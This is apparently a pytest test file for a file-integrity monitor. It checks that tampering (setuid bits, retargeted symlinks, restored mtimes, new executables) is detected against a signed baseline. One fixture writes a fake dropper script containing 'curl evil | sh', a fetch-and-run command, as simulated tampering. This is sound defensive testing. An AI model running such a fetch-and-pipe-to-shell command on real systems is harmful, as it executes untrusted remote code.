"""Baseline and verify on a temp tree: every kind of drift, fast and full mode, bad input."""

from __future__ import annotations

import json
import os
import socket
import stat
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from garrison.config.loader import load_config
from garrison.integrity import chunk_work, scan_processes, scan_threads
from garrison.integrity.verify import verify_baseline

from .conftest import write_config

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root")


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    root = tmp_path / "tree"
    (root / "bin").mkdir(parents=True)
    (root / "etc").mkdir()
    (root / "bin" / "trader").write_bytes(b"\x7fELF trading bot\n" * 100)
    (root / "bin" / "trader").chmod(0o755)
    (root / "bin" / "helper").write_text("#!/bin/sh\necho help\n")
    (root / "bin" / "helper").chmod(0o755)
    (root / "bin" / "tool").write_text("tool\n")
    (root / "bin" / "big").write_bytes(os.urandom(5 << 20))  # hashed on its own, via mmap
    (root / "etc" / "bot.conf").write_text("risk = 1\n")
    (root / "bin" / "current").symlink_to("trader")
    (root / "stuff").mkdir()
    (root / "stuff" / "data").write_text("data\n")
    return root


@pytest.fixture
def config_file(tmp_path: Path, tree: Path, signing_key: Path) -> Path:
    return write_config(
        tmp_path / "garrison.toml", tmp_path / "state", signing_key, paths=[str(tree)]
    )


def _baseline(cli: Callable[..., object], config: Path, key: Path):  # type: ignore[no-untyped-def]
    result = cli("baseline", "-c", str(config), "--sign-with", str(key))
    assert result.code == 0, result.err
    return result


def _changes(cli: Callable[..., object], config: Path, *extra: str) -> dict[tuple[str, str], dict]:  # type: ignore[no-untyped-def,type-arg]
    result = cli("verify", "-c", str(config), "-f", "json", *extra)
    assert result.code in (0, 1), result.err
    data = json.loads(result.out)
    return {(c["kind"], c["path"]): c for c in data["changes"]}


def test_clean_verify_passes_and_is_recorded(
    cli, config_file: Path, signing_key: Path, tmp_path: Path
) -> None:
    _baseline(cli, config_file, signing_key)
    result = cli("verify", "-c", str(config_file))
    assert result.code == 0, result.err
    assert "no drift" in result.out
    last = json.loads((tmp_path / "state" / "last-verify.json").read_text())
    assert last["clean"] is True and last["worst"] is None


def test_unsigned_baseline_is_refused(cli, config_file: Path) -> None:
    made = cli("baseline", "-c", str(config_file))
    assert made.code == 0 and "NOT SIGNED" in made.out
    result = cli("verify", "-c", str(config_file))
    assert result.code == 2
    assert "not signed" in result.err
    assert "Traceback" not in result.err


def test_content_change_with_mtime_restored_is_caught_in_fast_mode(
    cli, config_file: Path, signing_key: Path, tree: Path
) -> None:
    _baseline(cli, config_file, signing_key)
    target = tree / "bin" / "trader"
    before = target.stat()
    data = bytearray(target.read_bytes())
    data[10] ^= 0xFF  # same size, one byte different
    target.write_bytes(bytes(data))
    os.utime(target, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert target.stat().st_mtime_ns == before.st_mtime_ns
    # ctime moved (the kernel sets it on every write; user space cannot set it back)
    assert target.stat().st_ctime_ns != before.st_ctime_ns
    fast = _changes(cli, config_file)
    change = fast[("content", str(target))]
    assert change["severity"] == "high"
    assert "mtime unchanged" in change["detail"]
    assert ("content", str(target)) in _changes(cli, config_file, "--full")


def test_drift_kinds(cli, config_file: Path, signing_key: Path, tree: Path) -> None:
    _baseline(cli, config_file, signing_key)
    bin_dir = tree / "bin"
    (bin_dir / "helper").chmod(0o4755)  # setuid
    (bin_dir / "tool").rename(bin_dir / "tool-renamed")  # rename
    os.link(bin_dir / "trader", bin_dir / "trader-link")  # hard link
    (bin_dir / "current").unlink()
    (bin_dir / "current").symlink_to("/tmp/evil")  # symlink retargeted
    (tree / "stuff" / "data").unlink()
    (tree / "stuff" / "data").mkdir()  # file replaced by a directory
    (tree / "etc" / "bot.conf").write_text("risk = 100\n")  # config edit
    (bin_dir / "dropper").write_text("#!/bin/sh\ncurl evil | sh\n")
    (bin_dir / "dropper").chmod(0o755)  # new executable
    (tree / "etc" / "bot.conf").chmod(0o666)  # world-writable config
    result = cli("verify", "-c", str(config_file))
    assert result.code == 1
    assert "setuid" in result.out and "CRITICAL" in result.out
    changes = _changes(cli, config_file)
    assert changes[("setuid", str(bin_dir / "helper"))]["severity"] == "critical"
    renamed = changes[("renamed", str(bin_dir / "tool-renamed"))]
    assert renamed["old_path"] == str(bin_dir / "tool")
    assert ("removed", str(bin_dir / "tool")) not in changes
    assert "hard link" in changes[("added", str(bin_dir / "trader-link"))]["detail"]
    assert changes[("metadata", str(bin_dir / "trader"))]["after"]["nlink"] == "2"
    symlink = changes[("symlink", str(bin_dir / "current"))]
    assert symlink["before"]["target"] == "trader" and symlink["after"]["target"] == "/tmp/evil"
    assert changes[("type", str(tree / "stuff" / "data"))]["severity"] == "high"
    assert changes[("content", str(tree / "etc" / "bot.conf"))]["severity"] == "medium"
    mode = changes[("metadata", str(tree / "etc" / "bot.conf"))]
    assert mode["before"]["mode"] == "0644" and mode["after"]["mode"] == "0666"
    assert mode["severity"] == "high"
    assert changes[("added", str(bin_dir / "dropper"))]["severity"] == "high"
    last = json.loads((config_file.parent / "state" / "last-verify.json").read_text())
    assert last["clean"] is False and last["worst"] == "critical"
    # --full (raw-line diff) reports exactly what fast mode (record diff) reports
    full = _changes(cli, config_file, "--full")
    assert {k: (v["severity"], v["detail"]) for k, v in full.items()} == {
        k: (v["severity"], v["detail"]) for k, v in changes.items()
    }
    # --fail-on critical: still exit 1 (setuid); a tree with only low drift passes it
    assert cli("verify", "-c", str(config_file), "--fail-on", "critical").code == 1


@needs_root
def test_new_file_capability_is_high(cli, config_file: Path, signing_key: Path, tree: Path) -> None:
    _baseline(cli, config_file, signing_key)
    target = tree / "bin" / "tool"
    subprocess.run(["setcap", "cap_net_raw+ep", str(target)], check=True)
    changes = _changes(cli, config_file)
    cap = changes[("capability", str(target))]
    assert cap["severity"] == "high" and cap["after"]["caps"].startswith("01000002")


def test_only_low_drift_passes_default_threshold(
    cli, config_file: Path, signing_key: Path, tree: Path
) -> None:
    _baseline(cli, config_file, signing_key)
    target = tree / "bin" / "tool"
    os.utime(target, (1_000_000, 1_000_000))  # touch: metadata only, content same
    result = cli("verify", "-c", str(config_file), "-f", "json")
    assert result.code == 0
    kinds = {(c["kind"], c["severity"]) for c in json.loads(result.out)["changes"]}
    assert kinds == {("metadata", "low")}


def test_special_files_and_symlink_loops_are_recorded_not_followed(
    cli, config_file: Path, signing_key: Path, tree: Path
) -> None:
    os.mkfifo(tree / "stuff" / "fifo")
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(tree / "stuff" / "sock"))
    (tree / "stuff" / "loop-a").symlink_to("loop-b")
    (tree / "stuff" / "loop-b").symlink_to("loop-a")
    (tree / "stuff" / "self").symlink_to(".")
    if os.geteuid() == 0:  # a /dev/zero twin: reading it would never end
        os.mknod(tree / "stuff" / "zero", 0o600 | stat.S_IFCHR, os.makedev(1, 5))
    odd = os.fsencode(str(tree / "stuff")) + b"/odd\tname\nwith\xffbytes"
    with open(odd, "wb") as handle:
        handle.write(b"x")
    try:
        _baseline(cli, config_file, signing_key)
        assert cli("verify", "-c", str(config_file)).code == 0
        assert cli("verify", "-c", str(config_file), "--full").code == 0
        import gzip

        text = gzip.decompress((config_file.parent / "state" / "baseline.gz").read_bytes())
        kinds = {
            line.split(b"\t")[0].rsplit(b"/", 1)[-1]: line.split(b"\t")[1]
            for line in text.splitlines()
            if not line.startswith(b"#")
        }
        assert kinds[b"fifo"] == b"p" and kinds[b"sock"] == b"s" and kinds[b"loop-a"] == b"l"
        if os.geteuid() == 0:
            assert kinds[b"zero"] == b"c"
        with open(odd, "wb") as handle:
            handle.write(b"y")
        changes = _changes(cli, config_file)
        assert ("content", os.fsdecode(odd)) in changes
    finally:
        sock.close()


def test_vanishing_and_unreadable_files_mid_scan(
    cli, config_file: Path, signing_key: Path, tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_hash = chunk_work.hash_file
    gone = str(tree / "bin" / "tool")
    locked = str(tree / "bin" / "helper")

    def flaky(path: str, size: int, algorithm: str, mapped: bool = False) -> str:
        if path == gone:
            os.unlink(path)  # deleted between the walk and the read
            raise FileNotFoundError(2, "No such file or directory")
        if path == locked:
            raise PermissionError(13, "Permission denied")
        return real_hash(path, size, algorithm)

    monkeypatch.setattr(chunk_work, "hash_file", flaky)
    result = cli("baseline", "-c", str(config_file), "--sign-with", str(signing_key))
    assert result.code == 0, result.err
    assert "vanished during the scan" in result.err
    assert f"unreadable (recorded without a hash): {locked}: Permission denied" in result.err
    monkeypatch.setattr(chunk_work, "hash_file", real_hash)
    changes = _changes(cli, config_file, "--full")
    assert ("unreadable", locked) in changes
    assert not any(path == gone for _kind, path in changes)


def test_interrupted_baseline_keeps_the_previous_one(
    cli, config_file: Path, signing_key: Path, tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _baseline(cli, config_file, signing_key)
    state = config_file.parent / "state"
    before = (state / "baseline.gz").read_bytes()
    (tree / "bin" / "new").write_text("new\n")

    def boom(path: str, size: int, algorithm: str, mapped: bool = False) -> str:
        raise KeyboardInterrupt

    monkeypatch.setattr(chunk_work, "hash_file", boom)
    result = cli("baseline", "-c", str(config_file), "--sign-with", str(signing_key))
    assert result.code == 130
    assert (state / "baseline.gz").read_bytes() == before
    assert sorted(p.name for p in state.iterdir()) == ["baseline.gz", "baseline.gz.sig"]


@pytest.mark.slow
def test_killed_baseline_never_leaves_a_complete_looking_manifest(
    tmp_path: Path, signing_key: Path
) -> None:
    """SIGKILL in the middle of a real scan of /usr/lib: no manifest at the target."""
    state = tmp_path / "state"
    config = write_config(
        tmp_path / "g.toml", state, signing_key, paths=["/usr/lib", "/usr/bin"], workers=1
    )
    garrison = Path(os.__file__).parents[3] / "bin" / "garrison"
    if not garrison.exists():
        garrison = Path("/work/main/.venv/bin/garrison")
    proc = subprocess.Popen(
        [str(garrison), "-c", str(config), "baseline", "--sign-with", str(signing_key)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        while proc.poll() is None and not any(state.glob(".baseline.gz.tmp*")):
            os.sched_yield()
        assert proc.poll() is None, "scan finished before it could be interrupted"
        proc.kill()
        proc.wait()
    finally:
        if proc.poll() is None:
            proc.kill()
    assert not (state / "baseline.gz").exists()
    config_obj = load_config(str(config))
    with pytest.raises(Exception, match="no baseline yet"):
        verify_baseline(config_obj)


def test_strategy_code_dir_is_covered_and_excludes_apply(
    cli, tmp_path: Path, tree: Path, signing_key: Path
) -> None:
    code = tmp_path / "code"
    (code / "__pycache__").mkdir(parents=True)
    (code / "bot.py").write_text("trade()\n")
    (code / "__pycache__" / "bot.cpython-311.pyc").write_bytes(b"\0")
    config = write_config(
        tmp_path / "g.toml",
        tmp_path / "state",
        signing_key,
        paths=[str(tree)],
        excludes=["**/__pycache__", f"{tree}/etc/*.conf"],
    )
    config.write_text(config.read_text() + f'[[strategies]]\nname = "bot"\ncode_dir = "{code}"\n')
    result = cli("baseline", "-c", str(config), "--sign-with", str(signing_key), "-f", "json")
    assert result.code == 0, result.err
    assert str(code) in json.loads(result.out)["paths"]
    shown = cli("baseline", "show", "-c", str(config), "-f", "json")
    assert "verified against the pinned key" in json.loads(shown.out)["trust"]
    (code / "bot.py").write_text("steal()\n")
    (code / "__pycache__" / "bot.cpython-311.pyc").write_bytes(b"\1")
    (tree / "etc" / "bot.conf").write_text("ignored\n")
    changes = _changes(cli, config)
    assert set(changes) == {("content", str(code / "bot.py"))}


def test_sha256_algorithm(cli, tmp_path: Path, tree: Path, signing_key: Path) -> None:
    config = write_config(
        tmp_path / "g.toml", tmp_path / "state", signing_key, paths=[str(tree)], algorithm="sha256"
    )
    _baseline(cli, config, signing_key)
    (tree / "bin" / "big").write_bytes(b"changed")
    change = _changes(cli, config, "--full")[("content", str(tree / "bin" / "big"))]
    import hashlib

    assert change["after"]["hash"] == hashlib.sha256(b"changed").hexdigest()


def test_process_and_thread_modes_write_the_same_records(
    cli, tmp_path: Path, signing_key: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A scan big enough to move to worker processes records exactly what threads record."""
    import gzip

    started: list[int] = []
    real_pool = scan_processes.process_pool

    def spy(spec):  # type: ignore[no-untyped-def]
        started.append(spec.worker_count())
        return real_pool(spec)

    monkeypatch.setattr(scan_processes, "process_pool", spy)

    tree = tmp_path / "many"
    for d in range(50):
        sub = tree / f"d{d:02}"
        sub.mkdir(parents=True)
        for f in range(100):
            (sub / f"f{f:03}").write_text(f"{d}-{f}\n")
    manifests = {}
    for mode in ("thread", "process"):
        config = write_config(
            tmp_path / f"{mode}.toml",
            tmp_path / f"state-{mode}",
            signing_key,
            paths=[str(tree)],
            parallelism=mode,
            workers=2,
        )
        _baseline(cli, config, signing_key)
        text = gzip.decompress((tmp_path / f"state-{mode}" / "baseline.gz").read_bytes()).decode()
        manifests[mode] = [line for line in text.splitlines() if not line.startswith("#")]
    assert len(manifests["thread"]) == 1 + 50 + 5000
    assert manifests["thread"] == manifests["process"]
    assert started == [2]  # only the process-mode baseline started worker processes
    (tree / "d49" / "f099").write_text("changed\n")
    changes = _changes(cli, config, "--full")  # process mode, last file of the walk
    assert set(changes) == {("content", str(tree / "d49" / "f099"))}


def test_unsaveable_verify_result_is_a_warning_not_a_failure(
    cli, config_file: Path, signing_key: Path
) -> None:
    _baseline(cli, config_file, signing_key)
    (config_file.parent / "state" / "last-verify.json").mkdir()  # cannot be replaced by a file
    result = cli("verify", "-c", str(config_file))
    assert result.code == 0, result.err
    assert "no drift" in result.out
    assert "warning: " in result.out and "cannot save the verify result" in result.out


def test_cold_cache_mode_hands_chunks_to_helpers_and_records_the_same(
    cli, tmp_path: Path, signing_key: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """When reads reach the disk, whole chunks go to helper threads; the manifest is the same."""
    import gzip
    import itertools

    tree = tmp_path / "many"
    for d in range(20):
        sub = tree / f"d{d:02}"
        sub.mkdir(parents=True)
        for f in range(100):
            (sub / f"f{f:03}").write_text(f"{d}-{f}\n")
    (tree / "d19" / "big").write_bytes(os.urandom(5 << 20))
    config = write_config(tmp_path / "g.toml", tmp_path / "state", signing_key, paths=[str(tree)])
    manifest = tmp_path / "state" / "baseline.gz"

    def body() -> list[bytes]:
        return [x for x in gzip.decompress(manifest.read_bytes()).splitlines() if x[:1] != b"#"]

    _baseline(cli, config, signing_key)
    warm = body()
    handed: list[int] = []
    real_submit = scan_threads.ThreadPoolExecutor.submit

    def counting_submit(self, fn, *args, **kwargs):  # type: ignore[no-untyped-def]
        if fn is scan_threads.complete_chunk:
            handed.append(len(args[0]))
        return real_submit(self, fn, *args, **kwargs)

    disk = itertools.count()
    monkeypatch.setattr(scan_threads, "blocks_read", lambda: next(disk))  # every read "cold"
    monkeypatch.setattr(scan_threads.ThreadPoolExecutor, "submit", counting_submit)
    _baseline(cli, config, signing_key)
    assert sum(handed) > 1000  # most of the 2021 entries went to helpers
    assert body() == warm
    (tree / "d07" / "f050").write_text("changed\n")
    assert set(_changes(cli, config, "--full")) == {("content", str(tree / "d07" / "f050"))}


def test_verify_a_mounted_system_from_outside(cli, tmp_path: Path, signing_key: Path) -> None:
    """A suspect disk mounted in a rescue system is checked against its own signed baseline;
    the result is not recorded as the rescue host's last verify."""
    root = tmp_path / "mnt"
    (root / "etc").mkdir(parents=True)
    (root / "etc" / "machine-id").write_text("0123456789abcdef0123456789abcdef\n")
    (root / "etc" / "hostname").write_text("trading-vps\n")
    (root / "usr" / "bin").mkdir(parents=True)
    (root / "usr" / "bin" / "bot").write_text("trade\n")
    (root / "usr" / "bin" / "tool").write_text("tool\n")
    state = tmp_path / "state"
    config = write_config(tmp_path / "g.toml", state, signing_key, paths=["/usr/bin"])
    made = cli("baseline", "-c", str(config), "--root", str(root), "--sign-with", str(signing_key))
    assert made.code == 0, made.err
    clean = cli("verify", "-c", str(config), "--root", str(root))
    assert clean.code == 0, clean.out + clean.err
    (root / "usr" / "bin" / "bot").write_text("trade and exfiltrate\n")
    (root / "usr" / "bin" / "tool").chmod(0o4755)
    changes = _changes(cli, config, "--root", str(root), "--full")
    assert {("content", "/usr/bin/bot"), ("setuid", "/usr/bin/tool")} <= set(changes)
    assert not (state / "last-verify.json").exists()
    # this host is not that system: its own files are not what the baseline describes
    elsewhere = cli("verify", "-c", str(config))
    assert elsewhere.code == 2 and "made on another host" in elsewhere.err
